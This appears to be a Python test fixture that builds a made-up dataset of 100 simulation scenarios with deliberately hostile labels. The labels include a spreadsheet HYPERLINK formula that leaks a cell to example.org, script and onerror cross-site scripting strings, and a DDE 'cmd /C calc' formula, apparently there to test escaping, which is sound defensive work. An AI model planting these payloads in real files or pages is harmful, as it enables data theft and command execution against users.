"""A made-up view of full size: 100 scenarios that share one future without the programme, and hostile labels."""

import numpy as np
import xarray as xr

from oa_sim.definitions import GROUPS, MEASURES
from oa_sim.explore.views import DIMS, MEAN_OF_AREAS, STATISTICS, Case, View

SPREAD = np.array([0.0, -1.645, -0.674, 0.0, 0.674, 1.645])
HOSTILE = (
    '=HYPERLINK("https://example.org/?leak="&A1,"open")',
    "<script>alert(1)</script><img src=x onerror=alert(2)>",
    "A name of two hundred characters " + "that goes on " * 12 + "until the end",
    'it\'s "quoted" & `ticked` \\ ${7*7} {{title}} </script>',
    "\N{SCHOOL}\N{GRADUATION CAP} emoji",
    "\u0645\u062f\u0631\u0633\u0629 \u202e reversed",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "line\u2028separator and\ttab",
)


def view(n: int = 100, places: tuple[str, ...] = tuple(f"Area {i}" for i in range(12)), seed: int = 7) -> View:
    """Return a view of ``n`` scenarios of two keys, in ten places and more, three groups, nine measures, ten years."""
    rng = np.random.default_rng(seed)
    shape = (len(places) + 1, len(GROUPS), len(MEASURES), 10)
    level, width = rng.uniform(20, 80, (*shape, 1)), rng.uniform(1, 8, (*shape, 1))
    anyway = np.repeat((level + width * SPREAD)[None], n, axis=0)
    peak = rng.uniform(0.05, 1.5, (n, *shape, 1)) * rng.uniform(0.5, 1.5, (1, *shape, 1))
    impact = peak * (1 + 0.4 * SPREAD + rng.normal(0, 0.01, (n, *shape, len(SPREAD))))
    impact.sort(axis=-1)
    impact = np.concatenate([impact.mean(axis=-1, keepdims=True), np.delete(impact, 2, axis=-1)], axis=-1)
    figures = {"projection": anyway + peak, "counterfactual": anyway, "impact": impact}
    for values in figures.values():  # no figure for a group that a measure does not have
        for m, about in enumerate(MEASURES.values()):
            for g, group in enumerate(GROUPS):
                if group not in about.table_groups:
                    values[:, :, g, m] = np.nan
    coords = {"place": [*places, MEAN_OF_AREAS], "group": list(GROUPS), "measure": list(MEASURES)}
    past = rng.uniform(20, 80, (*shape[:3], 6))
    past[..., 3] = np.nan
    found = xr.Dataset(
        {name: (DIMS, values) for name, values in figures.items()}
        | {"error": (("quantity", *DIMS[:-1]), np.full((3, n, *shape), 0.004))}
        | {"history": ((*coords, "history_year"), past)}
        | {name: (tuple(coords), np.zeros(shape[:3])) for name in ("proxy", "estimated")},
        coords | {"year": range(2024, 2034), "statistic": list(STATISTICS), "history_year": range(2018, 2024)},
    )
    found.proxy[1], found.proxy[-1] = 1, 1
    cases = [case(f"scenario {i}", (f"split {i // 10}", f"{i % 10}m")) for i in range(n)]
    return View(cases, ["split", "budget"], found, [])


def case(label: str, values: tuple[str, ...] = (), **more) -> Case:
    told = {"verdict": "PASS", "reason": "made up", "n_draws": 2000, "to_verify": 3, "last_funded_year": 2028}
    known = {"run_id": "c0ffee", "data_hash": "da7a" * 16, "version": "0.0.0", "n_areas": 12}
    return Case(label, values, **(known | told | more))
